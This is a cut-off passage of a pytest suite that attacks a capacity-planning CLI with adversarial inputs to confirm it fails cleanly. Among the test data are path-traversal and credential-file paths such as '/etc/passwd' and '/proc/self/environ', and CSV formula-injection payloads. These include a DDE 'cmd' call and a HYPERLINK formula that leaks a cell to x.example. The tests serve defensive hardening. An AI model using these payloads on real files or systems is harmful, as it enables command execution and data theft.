"""Adversarial inputs (issue 9, "Keep it fixed"): every class of breakage the issue lists,
attacked again with other values than the ones reported, through the public API and the CLI.

The promises: a bad row is that row's error (the others are computed, exit 1, never exit 3 or
a traceback); the output never overwrites the input; duplicates stay linear; nothing a user
types asks for unbounded memory; CSV output is neutralised against formula injection; a
malformed deployment file is one line naming the file; checkpoints survive a failed final
write, are locked, survive Ctrl-C and are never trusted when damaged; control characters are
never printed raw; stale temporary files are cleaned up.

Nothing here reads the clock: "quickly" and "before any work" are checked as work counted
(the engine's draws, traced memory, elements handed to calls; see ``meters.py``), so that the
tests pass or fail the same way on an idle or a busy machine.
"""

from __future__ import annotations

import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from meters import EngineMeter, elements_handed, peak_bytes

import plcapacity as plc
from plcapacity.availability.budget import DEFAULT_MEMORY_BYTES, MAX_EXPECTED_OUTAGES
from plcapacity.base.exceptions import CheckpointError, TableError
from plcapacity.base.tables import read_table, write_table
from plcapacity.base.validation import check_number
from plcapacity.batch.checkpoint import Checkpoint
from plcapacity.batch.scenarios import ScenarioRows
from plcapacity.capacity.grid import MAX_GRID_ROWS
from plcapacity.cli import main

ROOT = Path(__file__).resolve().parent.parent
ENV = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", "")}

GOOD_TOML = """\
[outages]
rate_per_year = 0.5
duration = { law = "fixed", hours = 3 }

[[destinations]]
name = "pls-a"
region = "eastus"
nat_ips = 2
backend_vms = 4

[[destinations]]
name = "pls-b"
region = "westus2"
nat_ips = 2
backend_vms = 4

[[endpoints]]
name = "pe-a"
region = "eastus"
destination = "pls-a"

[[endpoints]]
name = "pe-b"
region = "westus2"
destination = "pls-b"

[demand]
connections = 200_000
"""

HOSTILE_NUMBERS = ["1e300", "9e307", "-9e307", "inf", "-inf", "nan", "-0", "1e-320", "0x10",
                   "١٢٣", "1e309", "12abc", "--5", "1_0_0", "∞", "1,5", "0b101", "1e-300"]
NEVER_OK = {"inf", "-inf", "nan", "0x10", "12abc", "--5", "∞", "1e309", "0b101"}


def cli(argv):
    """main() in-process: (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    code = main([str(a) for a in argv], out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def refused_before_any_work(argv):
    """main() in-process, asserting that the engine drew nothing: (code, stdout, stderr)."""
    with EngineMeter() as meter:
        result = cli(argv)
    assert meter.calls == 0, f"{argv[:3]}: the engine drew {meter.trials:,} trials"
    return result


def assert_one_clean_line(err):
    assert "Traceback" not in err
    assert err.count("\n") == 1 and err.startswith("plcapacity: "), err


def batch_table(path: Path, rows: list[dict]) -> Path:
    columns = ["service", "concurrent_connections"]
    for row in rows:
        columns += [c for c in row if c not in columns]
    pd.DataFrame(rows, columns=columns).fillna("").astype(str).to_csv(path, index=False)
    return path


def run_rows(tmp_path, rows, *extra, name="scenarios.csv", trials=100):
    """A batch CLI run of ``rows`` plus a good row 'good'; the results frame by service.

    Whatever the rows hold, the engine is never handed a sub-block of trials whose estimated
    memory exceeds the default budget, and draws at most ``trials`` trials a row."""
    table = batch_table(tmp_path / name, [*rows, dict(service="good",
                                                      concurrent_connections="1000")])
    output = tmp_path / "results.json"
    with EngineMeter() as meter:
        code, out, err = cli(["batch", table, "-o", output, "--trials", trials, "--seed", "3",
                              "--workers", "1", "--no-progress", *extra])
    assert meter.largest_estimate <= DEFAULT_MEMORY_BYTES, meter.largest_estimate
    assert meter.trials <= trials * (len(rows) + 1), meter.trials
    assert code in (0, 1), (code, err)
    assert "Traceback" not in out + err and "internal error" not in err, err
    results = pd.read_json(output, orient="records", dtype=False)
    by_service = results.set_index("service")
    assert by_service.loc["good", "status"] == "ok"
    assert (code == 1) == (results.status != "ok").any()
    return code, by_service, out


# ------------------------------------------------------------------ 1. a bad row is its own

NUMERIC_COLUMNS = ["concurrent_connections", "new_connections_per_s", "port_hold_s", "headroom",
                   "vm_failures_tolerated", "consumer_endpoints", "growth_per_year",
                   "max_connections_per_vm", "overflow_probability", "vm_hourly_usd",
                   "zones", "zone_failures_tolerated"]
AVAILABILITY_COLUMNS = ["failover_delay_min", "outage_rate_per_year", "outage_median_hours",
                        "outage_p95_hours", "slo_percent"]


@pytest.mark.parametrize("column", NUMERIC_COLUMNS)
def test_hostile_numbers_in_sizing_columns_stay_in_their_row(tmp_path, column):
    rows = [{"service": f"r{i}", "concurrent_connections": "5000", column: value}
            for i, value in enumerate(HOSTILE_NUMBERS)]
    _, results, out = run_rows(tmp_path, rows)
    for i, value in enumerate(HOSTILE_NUMBERS):
        row = results.loc[f"r{i}"]
        if value in NEVER_OK and not (column == "max_connections_per_vm" and value == "inf"):
            assert row.status in ("error", "infeasible"), (column, value)
            assert column in row.error, (column, value, row.error)
        if row.status != "ok":  # capped (see test_hostile_failing.py for huge numbers)
            assert len(row.error) < 2000 and "\n" not in row.error


@pytest.mark.parametrize("column", AVAILABILITY_COLUMNS)
def test_hostile_numbers_in_availability_columns_stay_in_their_row(tmp_path, column):
    values = HOSTILE_NUMBERS + ["1e6", "1e12", "0", "100", "99.9999999999", "1e-9", "5"]
    rows = [dict(service=f"r{i}", concurrent_connections="5000", pe_regions="eastus;westus2",
                 failover="active-passive", **{column: value}) for i, value in enumerate(values)]
    # two trials a row: a rate of 1e6 a year still draws millions of outages a trial (the
    # class: huge but allowed, simulated in its row), at a small multiple of one trial's work
    _, results, _ = run_rows(tmp_path, rows, trials=2)
    for i, value in enumerate(values):
        row = results.loc[f"r{i}"]
        if value in NEVER_OK:
            assert row.status != "ok", (column, value)
        if row.status != "ok":  # capped (see test_hostile_failing.py for huge numbers)
            assert len(row.error) < 2000 and "\n" not in row.error
        else:
            assert 0 <= row.availability <= 1, (column, value)


def test_huge_outage_rates_and_durations_stay_in_their_row(tmp_path):
    combos = [("1e6", "", ""), ("1e12", "", ""), ("3e5", "1e5", "1e6"), ("50", "1e9", "1e10"),
              ("1e8", "0.001", "0.002"), ("2", "1e-300", "1e-299"), ("4e4", "8760", "87600")]
    rows = [dict(service=f"o{i}", concurrent_connections="1000", pe_regions="centralus;eastus2",
                 outage_rate_per_year=rate, outage_median_hours=median, outage_p95_hours=p95)
            for i, (rate, median, p95) in enumerate(combos)]
    # two trials a row: one trial alone holds millions of outages at these rates (refused
    # when beyond the memory budget, simulated when within it); run_rows checks the budget
    _, results, _ = run_rows(tmp_path, rows, trials=2)
    for i in range(len(combos)):
        row = results.loc[f"o{i}"]
        assert row.status in ("ok", "error")
        if row.status == "ok":
            assert 0 <= row.availability <= 1
    # both sides of the class: a huge rate within the budget is simulated (two million
    # outages a trial), one beyond it is refused in its row, naming the memory it would need
    assert results.loc["o0", "status"] == "ok"
    assert results.loc["o1", "status"] == "error" and "GiB" in results.loc["o1", "error"]


def test_a_row_that_would_draw_too_many_outages_is_refused_in_its_row(tmp_path):
    """Memory is bounded whatever the rate, time is not: 1e6 outages a year in two regions
    over 3,000 trials is about 6e9 outages, beyond MAX_EXPECTED_OUTAGES: the row's error."""
    assert 2e6 * 3_000 > MAX_EXPECTED_OUTAGES
    rows = [dict(service="busy", concurrent_connections="1000", pe_regions="centralus;eastus2",
                 outage_rate_per_year="1e6")]
    _, results, _ = run_rows(tmp_path, rows, trials=3_000)
    assert results.loc["busy", "status"] == "error"
    assert "would draw about" in results.loc["busy", "error"]


@pytest.mark.parametrize("regions", [";", " ; ;", "eastus;;", ";;;;;;;;", "EASTUS", "east us",
                                     "eastus;EastUS", "nowhere", "eastus; ;westus2", "\t",
                                     "eastus;" * 200, "é", "eastus,westus2"])
def test_odd_region_lists_stay_in_their_row(tmp_path, regions):
    rows = [dict(service="odd", concurrent_connections="1000", pe_regions=regions)]
    _, results, _ = run_rows(tmp_path, rows)
    row = results.loc["odd"]
    if row.status != "ok":
        assert "pe_regions" in row.error or "region" in row.error, row.error
        assert len(row.error) < 500


@pytest.mark.parametrize("failover", ["ACTIVE-ACTIVE", "active_passive", "both", "1e300", "-",
                                      "active-active;active-passive", "\x00", "nan"])
def test_odd_failover_values_stay_in_their_row(tmp_path, failover):
    rows = [dict(service="odd", concurrent_connections="1000", pe_regions="eastus;westus2",
                 failover=failover)]
    _, results, _ = run_rows(tmp_path, rows)
    row = results.loc["odd"]
    if row.status != "ok":
        assert "failover" in row.error, row.error


@pytest.mark.parametrize("destination", ["", "nowhere", "EASTUS", ";", "westus2;eastus"])
def test_odd_destination_region_stays_in_its_row(tmp_path, destination):
    rows = [dict(service="odd", concurrent_connections="1000", pe_regions="eastus;westus2",
                 destination_region=destination)]
    run_rows(tmp_path, rows)


def _deep(n):
    return "x = " + "[" * n + "]" * n + "\n"


MALFORMED_DEPLOYMENTS = {
    "name-list.toml": GOOD_TOML.replace('name = "pls-a"', "name = [1]"),
    "name-table.toml": GOOD_TOML.replace('name = "pe-a"', "name = { a = 1 }"),
    "name-float.toml": GOOD_TOML.replace('name = "pls-b"', "name = 1.5e300"),
    "groups-text.toml": GOOD_TOML.replace("[[destinations]]", 'groups = "x"\n\n[[destinations]]',
                                          1).replace("[outages]\n", "[outages]\n", 1),
    "groups-in-outages.toml": GOOD_TOML.replace("[outages]\n", '[outages]\ngroups = "x"\n'),
    "groups-number.toml": GOOD_TOML.replace("[outages]\n", "[outages]\ngroups = -7\n"),
    "destinations-3.toml": GOOD_TOML.split("[[destinations]]")[0] + "destinations = 3\n",
    "deep-50000.toml": _deep(50_000),
    "deep-in-outages.toml": GOOD_TOML.replace("[outages]\n", "[outages]\nzz = " + "[" * 30_000
                                              + "]" * 30_000 + "\n"),
    "p95-1e9.toml": GOOD_TOML.replace('duration = { law = "fixed", hours = 3 }',
                                      'duration = { law = "lognormal", median_hours = 2, '
                                      'p95_hours = 1e9 }'),
    "p95-1e300.toml": GOOD_TOML.replace('duration = { law = "fixed", hours = 3 }',
                                        'duration = { law = "lognormal", median_hours = 1, '
                                        'p95_hours = 1e300 }'),
    "hours-1e15.toml": GOOD_TOML.replace("hours = 3", "hours = 1e15"),
    "hours-inf.toml": GOOD_TOML.replace("hours = 3", "hours = inf"),
    "hours-nan.toml": GOOD_TOML.replace("hours = 3", "hours = nan"),
    "rate-1e300.toml": GOOD_TOML.replace("rate_per_year = 0.5", "rate_per_year = 1e300"),
    "rate-1e7.toml": GOOD_TOML.replace("rate_per_year = 0.5", "rate_per_year = 1e7"),
    "vms-huge.toml": GOOD_TOML.replace("backend_vms = 4", "backend_vms = 99999999999999999",
                                       1),
    "demand-text.toml": GOOD_TOML.replace("connections = 200_000", 'connections = "many"'),
    "empty.toml": "",
    "not-toml.toml": "[[[ this is = not toml\n",
    "outages-array.toml": GOOD_TOML.replace("[outages]", "[[outages]]"),
    "endpoints-table.toml": GOOD_TOML.replace("[[endpoints]]", "[endpoints]", 1).split(
        "[[endpoints]]")[0],
    "dates.toml": GOOD_TOML.replace("rate_per_year = 0.5", "rate_per_year = 1979-05-27"),
    "bool.toml": GOOD_TOML.replace("nat_ips = 2", "nat_ips = true", 1),
}


#: Files whose values are extreme but allowed: a model may answer them (exact: always down).
ALLOWED_VALUES = {"p95-1e9.toml", "rate-1e7.toml", "hours-1e15.toml", "vms-huge.toml",
                  "rate-1e300.toml", "p95-1e300.toml"}


def _write_deployments(folder: Path) -> dict:
    for name, text in MALFORMED_DEPLOYMENTS.items():
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "binary.toml").write_bytes(bytes(range(256)) * 40)
    (folder / "nul.toml").write_bytes(b"\x00" * 1000)
    (folder / "latin1.toml").write_bytes(GOOD_TOML.replace("pls-a", "pls-\xe9").encode(
        "latin-1"))
    (folder / "folder.toml").mkdir()
    (folder / "big.toml").write_text("# " + "x" * (5 << 20) + "\n" + GOOD_TOML)
    return {**{n: n for n in MALFORMED_DEPLOYMENTS}, "binary.toml": "binary.toml",
            "nul.toml": "nul.toml", "latin1.toml": "latin1.toml", "folder.toml": "folder.toml",
            "big.toml": "big.toml"}


def test_malformed_deployment_files_stay_in_their_row(tmp_path):
    folder = tmp_path / "table"
    folder.mkdir()
    (folder / "ok.toml").write_text(GOOD_TOML)
    files = _write_deployments(folder)
    outside = tmp_path / "outside.toml"
    outside.write_text(GOOD_TOML)
    (folder / "link-out.toml").symlink_to(outside)
    (folder / "sub").mkdir()
    paths = {**files, "urandom": "/dev/urandom", "zero": "/dev/zero", "dotdot": "../outside.toml",
             "dotdot-sub": "sub/../../outside.toml", "absolute": str(outside),
             "link-out": "link-out.toml", "missing": "missing.toml", "proc": "/proc/self/environ",
             "etc": "../../../../../../etc/passwd"}
    rows = [dict(service=f"d-{key}", concurrent_connections="1000", deployment=path)
            for key, path in paths.items()]
    rows.append(dict(service="d-ok", concurrent_connections="1000", deployment="ok.toml"))
    code, results, out = run_rows(folder, rows)
    assert code == 1
    assert results.loc["d-ok", "status"] == "ok" and results.loc["d-ok", "availability"] > 0
    for key in paths:
        row = results.loc[f"d-{key}"]
        assert row.status == "error", (key, row.status)
        assert len(row.error) < 2000, (key, row.error)


def test_deployment_outside_the_folder_is_allowed_only_when_asked(tmp_path):
    folder = tmp_path / "table"
    folder.mkdir()
    outside = tmp_path / "elsewhere" / "dep.toml"
    outside.parent.mkdir()
    outside.write_text(GOOD_TOML)
    (folder / "link.toml").symlink_to(outside)
    rows = [dict(service="abs", concurrent_connections="1000", deployment=str(outside)),
            dict(service="rel", concurrent_connections="1000",
                 deployment="../elsewhere/dep.toml"),
            dict(service="link", concurrent_connections="1000", deployment="link.toml")]
    _, refused, _ = run_rows(folder, rows)
    assert set(refused.loc[["abs", "rel", "link"], "status"]) == {"error"}
    _, allowed, _ = run_rows(folder, rows, "--allow-outside-paths")
    assert set(allowed.loc[["abs", "rel", "link"], "status"]) == {"ok"}
    # a device is never a deployment file, even when outside paths are allowed
    _, device, _ = run_rows(folder, [dict(service="dev", concurrent_connections="1",
                                          deployment="/dev/urandom")], "--allow-outside-paths")
    assert device.loc["dev", "status"] == "error"


# ------------------------------------------------------------------ 2. -o equal to the input

@pytest.mark.parametrize("spelling", ["same", "dot", "dotdot", "hardlink", "symlink",
                                      "symlink-of-input"])
def test_output_equal_to_input_is_refused_before_any_work(tmp_path, monkeypatch, spelling):
    folder = tmp_path / "d"
    folder.mkdir()
    table = batch_table(folder / "x.csv", [dict(service="a", concurrent_connections="10",
                                                pe_regions="eastus;westus2")])
    before = table.read_bytes()
    monkeypatch.chdir(folder)
    if spelling == "same":
        output, source = str(table), str(table)
    elif spelling == "dot":
        output, source = "./x.csv", "x.csv"
    elif spelling == "dotdot":
        output, source = "../d/./x.csv", str(table)
    elif spelling == "hardlink":
        os.link(table, folder / "hard.csv")
        output, source = "hard.csv", "x.csv"
    elif spelling == "symlink":
        (folder / "sym.csv").symlink_to(table)
        output, source = "sym.csv", "x.csv"
    else:  # the input is a link to the output
        (folder / "in.csv").symlink_to(table)
        output, source = "x.csv", "in.csv"
    code, out, err = refused_before_any_work(["batch", source, "-o", output, "--trials", "1e9",
                                              "--no-progress"])
    assert code == 2, (code, out, err)
    assert_one_clean_line(err)
    assert "input" in err
    assert table.read_bytes() == before
    assert not list(folder.glob("*.checkpoint.jsonl"))


# ------------------------------------------------------------------ 3. duplicates stay linear

def _duplicates(n, layout):
    names = ["dup"] * n if layout == "all-same" else [f"s{i // 2}" for i in range(n)]
    return pd.DataFrame({"service": names, "concurrent_connections": "1000"})


@pytest.mark.parametrize("layout", ["all-same", "pairs"])
def test_duplicate_service_names_are_linear(tmp_path, layout):
    # the work over duplicates, at 500 and 2,000 rows: linear code hands its functions whole
    # columns a fixed number of times (x4), a per-row scan of the names (what the first
    # version did) hands them rows x rows elements (x16): the table's checks, where the
    # duplicates are found (one scan per row measures x15 there), and the whole batch
    for run in (lambda table: ScenarioRows(table, passthrough=False),
                lambda table: plc.run_batch(table, progress=False)):
        small, large = (elements_handed(run, _duplicates(n, layout))[1] for n in (500, 2_000))
        assert large < 6 * small, (small, large)
    # and the messages and outputs of many duplicates stay linear in size
    n = 2_000
    table = tmp_path / "dups.csv"
    _duplicates(n, layout).to_csv(table, index=False)
    output = tmp_path / "dups.json"
    code, out, err = cli(["batch", table, "-o", output, "--no-progress", "--top", "5"])
    assert code in (1, 2), err
    if code == 2:
        assert_one_clean_line(err)
        assert len(err) < 500
        return
    results = pd.read_json(output, orient="records", dtype=False)
    assert len(results) == n
    assert (results.status == "error").sum() >= n // 2
    assert results.error.str.len().max() < 500
    assert output.stat().st_size < n * 1500
    assert len(out) < n * 600


# ------------------------------------------------------------------ 4. memory from inputs

def test_simulate_refuses_memory_it_would_need(tmp_path):
    busy = tmp_path / "busy.toml"
    busy.write_text(GOOD_TOML.replace("rate_per_year = 0.5", "rate_per_year = 1e7"))
    calm = tmp_path / "calm.toml"
    calm.write_text(GOOD_TOML)
    for path, args, names in [
            (busy, ["--trials", "1000"], ("rate", "memory", "GiB", "GB", "bytes")),
            (calm, ["--years", "5000", "--trials", "1e6"], ("years", "trial")),
            (calm, ["--trials", "1e15"], ("trials",)),
            (calm, ["--trials", "3e14", "--years", "7"], ("trials", "years")),
            (busy, ["--years", "100", "--trials", "1e5"], ("rate", "years", "memory"))]:
        code, out, err = refused_before_any_work(["simulate", path, "--seed", "1",
                                                  "--no-progress", *args])
        assert code == 2, (args, code, err)
        assert_one_clean_line(err)
        assert any(name in err for name in names), (args, err)


@pytest.mark.parametrize("trials", ["1e14", "5e13", "1e18", "123456789012345"])
def test_batch_refuses_huge_trials_quickly(tmp_path, trials):
    table = batch_table(tmp_path / "t.csv", [dict(service="a", concurrent_connections="10",
                                                  pe_regions="eastus;westus2")])
    output = tmp_path / "out.csv"
    code, out, err = refused_before_any_work(["batch", table, "-o", output, "--trials", trials,
                                              "--workers", "1", "--no-progress", "--seed", "1"])
    assert code in (1, 2), (code, err)
    if code == 2:
        assert_one_clean_line(err)
        assert "trials" in err
    else:
        assert "trials" in out


def test_batch_refuses_a_row_that_would_need_huge_memory(tmp_path):
    rows = [dict(service="busy", concurrent_connections="10", pe_regions="eastus;westus2",
                 outage_rate_per_year="3e7")]
    with EngineMeter() as meter:
        _, results, _ = run_rows(tmp_path, rows)
    assert meter.calls == 0  # the busy row was refused before drawing (the good one has
    # no regions to simulate)
    assert results.loc["busy", "status"] == "error"
    message = results.loc["busy", "error"]
    assert "GiB" in message and "outage" in message, message


def test_ceiling_grids_are_bounded():
    code, out, err = cli(["ceiling", "--vms", "1-500", "--nat-ips", "1-8", "--pls", "1-8",
                          "--no-enforce-limits", "--format", "csv"])
    assert code == 0, err
    assert len(out.splitlines()) == 1 + 500 * 8 * 8  # a header and one line a combination
    # refused before the grid is built: the smallest of these grids has 9.9 million rows,
    # 240 MB in its three int64 axes alone; the refusal holds a few MB at most
    for argv in (["--vms", "1-99999", "--nat-ips", "1-99"],
                 ["--vms", "1-60000", "--nat-ips", "1-60", "--pls", "1-3"],
                 ["--vms", "1-100000", "--pls", "1-100000"],
                 ["--vms", "1-20000", "--nat-ips", "1-500", "--pls", "1-500"]):
        (code, out, err), peak = peak_bytes(cli, ["ceiling", *argv, "--no-enforce-limits",
                                                  "--format", "csv"])
        assert peak < 32 << 20, (argv, peak)
        assert code == 2, (argv, code)
        assert_one_clean_line(err)
        assert "grid" in err or "combinations" in err or "rows" in err, err


# ------------------------------------------------------------------ 5. CSV formula injection

FORMULAS = ["=1+2", "+SUM(1;2)", "-5+5", "@NOW()", "\tindent", "\rcr", "=cmd|' /C notepad'!A1",
            '=HYPERLINK("http://x.example/?q="&A1,"click")', "==", "+", "-", "@", "=\n1"]


def test_formulas_are_neutralised_in_csv_only(tmp_path):
    frame = pd.DataFrame({"service": FORMULAS, "concurrent_connections": 1000})
    table = tmp_path / "f.json"  # JSON input keeps leading tabs and CRs exactly
    frame.to_json(table, orient="records")
    outputs = {suffix: tmp_path / f"r.{suffix}" for suffix in ("csv", "json", "parquet")}
    for output in outputs.values():
        code, _, err = cli(["batch", table, "-o", output, "--no-progress"])
        assert code == 0, err
    kept = [name.strip() for name in FORMULAS]  # names are stripped of outer whitespace
    csv = pd.read_csv(outputs["csv"], dtype=str, keep_default_na=False)
    assert csv.service.tolist() == [
        "'" + name if name.startswith(("=", "+", "-", "@")) else name for name in kept]
    for column in csv.columns:  # no text cell of any column starts a formula
        for value in csv[column]:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            if value.startswith("-"):
                float(value)  # only a negative number may start with '-'
    as_json = json.loads(outputs["json"].read_text())
    assert [r["service"] for r in as_json] == kept
    assert pd.read_parquet(outputs["parquet"]).service.tolist() == kept


def test_write_table_neutralises_every_text_column(tmp_path):
    frame = pd.DataFrame({"a": ["=x", "ok", None, "\tTAB"], "b": ["@y", "-z", "+w", "\t=1"],
                          "n": [-1.5, 2, 3, 4]})
    write_table(frame, tmp_path / "t.csv")
    import csv
    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as stream:
        back = pd.DataFrame(list(csv.DictReader(stream)))
    assert back.a.tolist() == ["'=x", "ok", "", "'\tTAB"]
    assert back.b.tolist() == ["'@y", "'-z", "'+w", "'\t=1"]
    write_table(frame, tmp_path / "t.json")
    assert pd.read_json(tmp_path / "t.json", dtype=False).b.tolist() == frame.b.tolist()
    assert back.n.tolist()[0] == "-1.5"


# ------------------------------------------------------------------ 6. malformed TOML

@pytest.mark.parametrize("command", ["exact", "simulate"])
def test_malformed_deployment_files_are_one_line(tmp_path, command):
    files = _write_deployments(tmp_path)
    problems = []
    for name in files:
        path = tmp_path / name
        argv = [command, path] + (["--trials", "2000", "--seed", "1", "--no-progress"]
                                  if command == "simulate" else [])
        with EngineMeter() as meter:
            code, out, err = cli(argv)
        # an extreme value the model takes is simulated within the memory budget, or refused
        assert meter.largest_estimate <= DEFAULT_MEMORY_BYTES, (name, meter.largest_estimate)
        assert meter.trials <= 2000, name
        if code == 0 and name in ALLOWED_VALUES:
            continue  # values the model may take
        if code == 2 and name in ALLOWED_VALUES and "would need" in err:
            assert_one_clean_line(err)  # a memory refusal (the file unnamed: see
            continue                    # test_hostile_failing.py)
        if code != 2 or "Traceback" in err or err.count("\n") != 1 or not (
                name in err or str(path) in err):
            problems.append((name, code, err))
    for device in ("/dev/urandom", "/dev/zero", "/dev/null"):
        code, out, err = refused_before_any_work([command, device])
        assert code == 2, (device, err)
        assert_one_clean_line(err)
        assert device in err
    assert not problems, problems


def test_malformed_toml_messages_name_table_and_key(tmp_path):
    cases = {"name-list.toml": ("destinations", "name"),
             "groups-in-outages.toml": ("outages", "groups"),
             "hours-1e15.toml": ("hours",),
             "rate-1e300.toml": ("rate_per_year",),
             "p95-1e300.toml": ("p95_hours",),
             "demand-text.toml": ("demand", "connections"),
             "bool.toml": ("nat_ips",)}
    _write_deployments(tmp_path)
    for name, words in cases.items():
        code, _, err = cli(["exact", tmp_path / name])
        if code == 0:
            continue  # a value the model accepts
        assert code == 2, (name, err)
        for word in words:
            assert word in err, (name, word, err)


# ------------------------------------------------------------------ 7. checkpoint kept on failure

def availability_table(path: Path, n=4) -> Path:
    rows = [dict(service=f"svc-{i}", concurrent_connections=str(1000 * (i + 1)),
                 pe_regions="eastus;westus2" if i % 2 else "westeurope;northeurope;uksouth",
                 failover="active-passive" if i % 3 == 0 else "active-active")
            for i in range(n)]
    return batch_table(path, rows)


def test_an_output_folder_is_refused_before_any_work(tmp_path):
    table = availability_table(tmp_path / "t.csv")
    output = tmp_path / "res.json"
    output.mkdir()
    code, _, err = refused_before_any_work(["batch", table, "-o", output, "--no-progress"])
    assert code == 2 and "is a folder" in err
    assert_one_clean_line(err)
    assert not Path(f"{output}.checkpoint.jsonl").exists()


def test_checkpoint_survives_a_failed_final_write(tmp_path, monkeypatch):
    import errno

    import plcapacity.base.tables as tables
    table = availability_table(tmp_path / "t.csv")
    output = tmp_path / "res.json"
    checkpoint = Path(f"{output}.checkpoint.jsonl")
    args = ["batch", table, "-o", output, "--trials", "3000", "--seed", "11", "--workers", "1",
            "--no-progress"]

    def full_disk(target):
        raise OSError(errno.ENOSPC, "No space left on device", str(target))

    real_atomic_write = tables.atomic_write
    monkeypatch.setattr(tables, "atomic_write", lambda path, write: real_atomic_write(
        path, full_disk))
    code, out, err = cli(args)
    assert code == 2, err
    assert_one_clean_line(err)
    assert "No space left on device" in err
    assert checkpoint.exists() and not output.exists()
    assert len(checkpoint.read_text().splitlines()) == 1 + 4
    monkeypatch.setattr(tables, "atomic_write", real_atomic_write)
    code, _, err = cli(args + ["--resume"])
    assert code == 0, err
    assert not checkpoint.exists()
    reference = tmp_path / "ref.json"
    code, _, err = cli(["batch", table, "-o", reference] + args[4:])
    assert code == 0
    assert output.read_text() == reference.read_text()


# ------------------------------------------------------------------ 8. one run per output

def test_a_second_run_with_the_same_output_refuses(tmp_path):
    table = availability_table(tmp_path / "t.csv", 2)
    output = tmp_path / "res.csv"
    held = Checkpoint(f"{output}.checkpoint.jsonl", dict(entropy=1, trials=10, years=1,
                                                         seed_given=True), False)
    try:
        code, _, err = refused_before_any_work(["batch", table, "-o", output, "--trials",
                                                "1000", "--seed", "1", "--no-progress",
                                                "--workers", "1"])
        assert code == 2, err
        assert_one_clean_line(err)
        assert "another" in err and "checkpoint" in err
        assert not output.exists()
        with pytest.raises(CheckpointError):
            Checkpoint(f"{output}.checkpoint.jsonl", dict(entropy=1, trials=10, years=1,
                                                          seed_given=True), True)
    finally:
        held.close()
    code, _, err = cli(["batch", table, "-o", output, "--trials", "1000", "--seed", "1",
                        "--no-progress", "--workers", "1"])
    assert code == 0, err


# ------------------------------------------------------------------ 9. Ctrl-C

def wait_for_checkpoint_lines(run, checkpoint, lines):
    """Poll until the checkpoint holds ``lines`` lines or the run has ended (no deadline: a
    run ends by itself, and a busy machine only makes the wait longer)."""
    while run.poll() is None:
        if checkpoint.exists() and len(checkpoint.read_text().splitlines()) >= lines:
            return
        time.sleep(0.05)


def _batch_process(args):
    return subprocess.Popen([sys.executable, "-m", "plcapacity", "batch", *map(str, args)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=ENV,
                            cwd=ROOT)


@pytest.mark.slow
def test_ctrl_c_is_one_line_and_resume_equals_an_uninterrupted_run(tmp_path):
    table = availability_table(tmp_path / "t.csv", 4)
    output = tmp_path / "out.csv"
    checkpoint = Path(f"{output}.checkpoint.jsonl")
    args = [table, "-o", output, "--trials", "500000", "--seed", "21", "--workers", "1",
            "--no-progress"]
    run = _batch_process(args)
    wait_for_checkpoint_lines(run, checkpoint, 2)
    # paused while a second run tries the same output: the first holds the lock however fast
    # the machine (a race otherwise: the first could finish before the second reaches it)
    run.send_signal(signal.SIGSTOP)
    try:
        assert run.poll() is None, "the run ended before it could be interrupted"
        code, _, err = refused_before_any_work(["batch", *args, "--resume"])  # 8: a second run
    finally:
        run.send_signal(signal.SIGCONT)
    assert code == 2 and "another batch run" in err, err
    assert_one_clean_line(err)
    assert run.poll() is None, "the run ended before it could be interrupted"
    run.send_signal(signal.SIGINT)
    out, err = run.communicate(timeout=60)
    assert run.returncode == 130, err
    assert "Traceback" not in err and err.count("\n") == 1, err
    assert str(checkpoint) in err and "--resume" in err
    assert checkpoint.exists() and not output.exists()
    assert not list(tmp_path.glob(".out.csv*tmp"))
    resumed = _batch_process(args + ["--resume"])
    _, err = resumed.communicate(timeout=600)
    assert resumed.returncode == 0, err
    assert not checkpoint.exists()
    reference = tmp_path / "ref.csv"
    again = _batch_process([table, "-o", reference] + args[3:])
    _, err = again.communicate(timeout=600)
    assert again.returncode == 0, err
    assert output.read_bytes() == reference.read_bytes()


# ------------------------------------------------------------------ 11. corrupt checkpoints

def _checkpoint_args(folder):
    return ["batch", folder / "t.csv", "-o", folder / "res.json", "--trials", "300", "--seed",
            "5", "--workers", "1", "--no-progress"]


@pytest.fixture(scope="module")
def finished_checkpoint(tmp_path_factory):
    """A finished run's checkpoint (kept because the final write failed: a full disk), and the
    reference results of an untouched run, made once: (folder, reference text)."""
    import errno

    import plcapacity.base.tables as tables
    folder = tmp_path_factory.mktemp("checkpointed")
    availability_table(folder / "t.csv", 4)
    args = _checkpoint_args(folder)

    def full_disk(target):
        raise OSError(errno.ENOSPC, "No space left on device", str(target))

    with pytest.MonkeyPatch.context() as patch:
        real = tables.atomic_write
        patch.setattr(tables, "atomic_write", lambda path, write: real(path, full_disk))
        assert cli(args)[0] == 2
    reference = folder / "ref.json"
    assert cli(["batch", folder / "t.csv", "-o", reference] + args[4:])[0] == 0
    return folder, reference.read_text()


def _checkpointed_run(tmp_path, finished):
    """The finished run's table and checkpoint in ``tmp_path`` (neither names its folder):
    the arguments to resume it, the checkpoint, the output and the reference results."""
    import shutil
    folder, reference = finished
    shutil.copy(folder / "t.csv", tmp_path / "t.csv")
    shutil.copy(folder / "res.json.checkpoint.jsonl", tmp_path / "res.json.checkpoint.jsonl")
    return (_checkpoint_args(tmp_path), tmp_path / "res.json.checkpoint.jsonl",
            tmp_path / "res.json", reference)


def _tamper(line):
    record = json.loads(line)
    record["columns"]["availability"] = 0.123456
    return json.dumps(record)


CORRUPTIONS = {
    "list-header": lambda lines: ["[]"] + lines[1:],
    "number-header": lambda lines: ["5"] + lines[1:],
    "empty-dict-header": lambda lines: ["{}"] + lines[1:],
    "string-header": lambda lines: ['"x"'] + lines[1:],
    "null-header": lambda lines: ["null"] + lines[1:],
    "header-wrong-types": lambda lines: ['{"entropy": [], "trials": "x", "years": null}']
    + lines[1:],
    "record-list": lambda lines: lines[:1] + ["[1,2]"] + lines[2:],
    "record-missing-keys": lambda lines: lines[:1] + ['{"key": "abc"}', '{"columns": {}}']
    + lines[2:],
